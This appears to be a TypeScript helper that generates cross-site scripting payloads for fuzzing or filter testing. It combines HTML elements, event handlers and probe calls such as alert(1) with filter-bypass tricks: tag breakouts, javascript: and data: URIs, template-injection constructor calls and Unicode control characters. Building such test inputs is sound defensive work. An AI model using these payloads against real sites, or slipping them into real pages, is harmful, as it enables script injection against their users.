// Texts as attackers write them to make a page run something: each form of element and handler with each way around filters.
const ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=//x.invalid", "marquee", "object data=x", "select autofocus", "math", "a href=x"];
const HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onstart", "onanimationend", "onpointerenter"];
const CALLS = ["pwn(1)", "pwn`1`", "top['pwn'](1)", "eval('pwn(1)')", "alert(1)", "confirm`1`"];
const WAYS: ((element: string, handler: string, call: string) => string)[] = [
  (element, handler, call) => `<${element} ${handler}=${call}>`,
  (element, handler, call) => `"><${element} ${handler}="${call}">`,
  (element, handler, call) => `'/><${element.toUpperCase()}/${handler.toUpperCase()}=${call}//`,
  (element, handler, call) => `</script></title></textarea><${element} ${handler}=${call}>`,
  (element, handler, call) => `&lt;${element} ${handler}=${call}&gt;`,
  (_, __, call) => `<script>${call}</script>`,
  (_, __, call) => `javascript:${call}`,
  (_, __, call) => `data:text/html,<script>${call}</script>`,
  (_, __, call) => `{{constructor.constructor('${call}')()}}`,
  (_, __, call) => `\${${call}}`,
  (_, __, call) => `<style>@import'//x.invalid/${call}';</style>`,
  (element, handler, call) => `\u202e<${element} ${handler}=${call}>\u0000\u2028`,
];

/** So many different ones. */
export function payloads(count: number): string[] {
  const all = new Set<string>();
  for (let turn = 0; all.size < count; turn++) {
    const way = WAYS[turn % WAYS.length]!;
    const one = way(ELEMENTS[turn % ELEMENTS.length]!, HANDLERS[Math.floor(turn / 7) % HANDLERS.length]!, CALLS[Math.floor(turn / 3) % CALLS.length]!);
    all.add(all.has(one) ? `${one}<!--${turn}-->` : one);
  }
  return [...all];
}
